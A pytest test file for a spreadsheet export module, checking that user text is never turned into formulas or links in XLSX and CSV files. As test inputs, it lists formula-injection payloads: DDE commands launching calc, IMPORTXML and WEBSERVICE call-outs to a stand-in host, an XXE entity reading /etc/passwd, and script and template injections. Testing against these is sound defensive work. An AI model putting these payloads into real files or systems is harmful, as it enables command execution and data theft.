"""Spreadsheets: whatever people wrote comes back as the same text, and nothing computes, links or runs."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any

import openpyxl
import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given, settings
from hypothesis import strategies as st

from lar.documents.cells import CUT, MAX_TEXT, guard, printable, unguard
from lar.documents.spreadsheets import BOM, Cell, Choice, Sheet, write_csv, write_workbook

FORMULAS = (
    "=1+1",
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://ejemplo.cl","clic")',
    '=IMPORTXML(CONCAT("http://ejemplo.cl/?v=",A1),"//a")',
    '=WEBSERVICE("http://ejemplo.cl")',
    '=DDE("cmd";"/C calc";"x")',
    '=IMAGE("http://ejemplo.cl/a.png")',
    '=INDIRECT("A"&1)',
    "{=SUM(A1:A9)}",
    "+1+1",
    "+56 9 1234 5678",
    "-1+1",
    "-2+3+cmd|' /C calc'!D2",
    "--1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@mención",
    "|calc",
    "%0A=1+1",
    "%",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    " =1+1",
    "\u00a0=1+1",
    "\t=1+1",
    "\n=1+1",
    "'=1+1",
    "''=1+1",
    '"=1+1',
    ";=1+1",
    "a;=1+1",
    "a,=1+1",
    "a\n=1+1",
    "a\t=1+1",
    '";=1+1;"',
)
ADDRESSES = (
    "http://ejemplo.cl",
    "https://ejemplo.cl/?a=1&b=2",
    "mailto:persona@ejemplo.cl",
    "javascript:alert(1)",
    "file:///etc/passwd",
    "internal:Hoja2!A1",
    "external:otro.xlsx",
    "\\\\servidor\\carpeta",
)
MARKUP = (
    "<script>alert(1)</script>",
    "<r><t>=1+1</t></r>",
    "<r></r>",
    "<r>",
    "<r><rPr><b/></rPr><t>negrita</t></r>",
    "</t></si></sst>",
    "<f>1+1</f>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "]]>",
    "&lt;ya escapado&gt;",
    "&#61;1+1",
    "&amp; < > \" '",
    "_x003D_1+1",
    "_x000D_",
    "_x0041_",
    "{{ 7 * 7 }}",
    "{% debug %}",
    "${7*7}",
    "%s %d %(a)s",
)
WORDS = (
    "007",
    "1e5",
    "1,5",
    "1.5",
    "23-11-2026",
    "VERDADERO",
    "TRUE",
    "NULL",
    "#¡REF!",
    "#N/A",
    "NaN",
    "'",
    '"',
    "''",
    '""',
    "  con espacios  ",
    "dos\nlíneas",
    "Ñandú, año, acción: «así»",
    "e\u0301 (acento suelto)",
    "👩🏽‍🏫 equipo",
    "\u202egnirts",
    "\u200bcero ancho",
    "قراءة",
    "学校",
)
HOSTILE = FORMULAS + ADDRESSES + MARKUP + WORDS


def opened(book: bytes) -> Any:
    return openpyxl.load_workbook(io.BytesIO(book))


def cells_of(book: bytes) -> list[Any]:
    return [
        cell for sheet in opened(book) for row in sheet.iter_rows() for cell in row if cell.value is not None
    ]


def members(book: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return {name: archive.read(name).decode() for name in archive.namelist() if name.endswith("xml")}


def shared_texts(book: bytes) -> list[str]:
    """The texts as they stand in the file, by a reader of XML that knows nothing of spreadsheets."""
    names = {"main": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}
    root = fromstring(members(book)["xl/sharedStrings.xml"])
    return ["".join(part.text or "" for part in entry.iterfind(".//main:t", names)) for entry in root]


def test_there_are_enough_of_them() -> None:
    assert len(set(HOSTILE)) == len(HOSTILE) >= 60


def test_a_workbook_has_no_cell_that_computes_links_or_calls_out() -> None:
    book = write_workbook([Sheet("uno", [("texto",), *((text,) for text in HOSTILE)])], title="Prueba")

    parts = members(book)

    sheet = parts["xl/worksheets/sheet1.xml"]
    assert not re.search(r"<f[ >/]|<hyperlink|t=\"str\"", sheet)
    assert set(re.findall(r'<c [^>]*t="(\w+)"', sheet)) == {"s"}
    assert sheet.count("<c ") == 1 + len(HOSTILE)
    assert not any("externalLink" in name or "vbaProject" in name for name in parts)


def test_every_text_of_a_workbook_comes_back_as_it_was() -> None:
    book = write_workbook([Sheet("uno", [("texto",), *((text,) for text in HOSTILE)])], title="Prueba")

    texts = shared_texts(book)

    escaped = [re.sub(r"_(?=x[0-9A-Fa-f]{4}_)", "_x005F_", text) for text in HOSTILE]
    assert texts == ["texto", *escaped]
    assert {cell.data_type for cell in cells_of(book)} == {"s"}


@pytest.mark.parametrize("text", HOSTILE)
def test_a_csv_keeps_the_text_and_disarms_the_formula(text: str) -> None:
    written = write_csv([("código", "texto"), ("a", text)])

    assert written.startswith(BOM)
    [_, (first, second)] = csv.reader(io.StringIO(written.removeprefix(BOM), newline=""), delimiter=";")
    assert (first, unguard(second)) == ("a", printable(text))
    assert second.lstrip()[:1] not in set("=+-@|%＝＋－＠")


@given(st.text())
def test_guarding_can_always_be_undone(text: str) -> None:
    assert unguard(guard(text)) == text


@settings(deadline=None)  # A workbook takes some milliseconds, more while the machine is busy.
@given(st.lists(st.text(max_size=40), min_size=1, max_size=12))
def test_any_words_at_all_make_a_workbook_that_opens(texts: list[str]) -> None:
    book = write_workbook([Sheet(texts[0], [("texto",), *((text,) for text in texts)])], title=texts[0])

    assert {cell.data_type for cell in cells_of(book)} == {"s"}
    assert len(shared_texts(book)) == len({"texto", *(printable(text) for text in texts)} - {""})


@pytest.mark.parametrize(
    ("raw", "kept"),
    [("nulo\x00", "nulo"), ("\x1b[31mrojo", "[31mrojo"), ("mitad\ud800", "mitad"), ("fin\uffff", "fin")],
)
def test_what_no_file_can_hold_is_left_out(raw: str, kept: str) -> None:
    assert printable(raw) == kept
    assert shared_texts(write_workbook([Sheet("a", [("x",), (raw,)])], title="x")) == ["x", kept]


def test_a_text_longer_than_a_cell_says_that_it_goes_on() -> None:
    long = "🌱" * MAX_TEXT

    [_, cell] = cells_of(write_workbook([Sheet("a", [("x",), (long,)])], title="x"))

    assert cell.value.startswith("🌱🌱")
    assert cell.value.endswith(CUT)
    assert len(cell.value.encode("utf-16-le")) // 2 <= MAX_TEXT


def test_numbers_are_numbers_and_blanks_stay_blank() -> None:
    rows: list[tuple[Cell, ...]] = [("n", "porcentaje", "nada"), (12, 0.5, None)]

    book = write_workbook([Sheet("a", rows, formats={1: "0%"})], title="x")

    sheet = opened(book).active
    assert [cell.value for cell in sheet[2]] == [12, 0.5, None]
    assert sheet["B2"].number_format == "0%"
    assert write_csv(rows).splitlines()[1] == "12;0,5;"


def test_headings_stay_in_sight_and_repeat_when_printed() -> None:
    book = write_workbook(
        [Sheet("a", [("x", "y"), ("1", "2")]), Sheet("b", [("1", "2")], has_header=False)], title="x"
    )

    first, second = opened(book)
    assert (first.freeze_panes, first.print_title_rows) == ("A2", "$1:$1")
    assert (second.freeze_panes, second.print_title_rows) == (None, None)


def test_a_column_offers_its_words() -> None:
    choice = Choice(0, ("sí", "no"), "Escribe «sí» o «no».")

    sheet = opened(write_workbook([Sheet("a", [("x",)], choices=(choice,), blank_rows=9)], title="x")).active

    [rule] = sheet.data_validations.dataValidation
    assert (rule.formula1, str(rule.sqref), rule.error) == ('"sí,no"', "A2:A10", "Escribe «sí» o «no».")


def test_names_of_sheets_are_made_fit() -> None:
    wanted = ["Resultados: 2026/2027", "Resultados: 2026/2027", "", "x" * 40, "X" * 40, "🌱" * 20]

    book = write_workbook([Sheet(name, [("a",)]) for name in wanted], title="x")

    assert opened(book).sheetnames == [
        "Resultados  2026 2027",
        "Resultados  2026 2027 2",
        "hoja 3",
        "x" * 31,
        f"{'X' * 29} 2",
        "🌱" * 15,
    ]
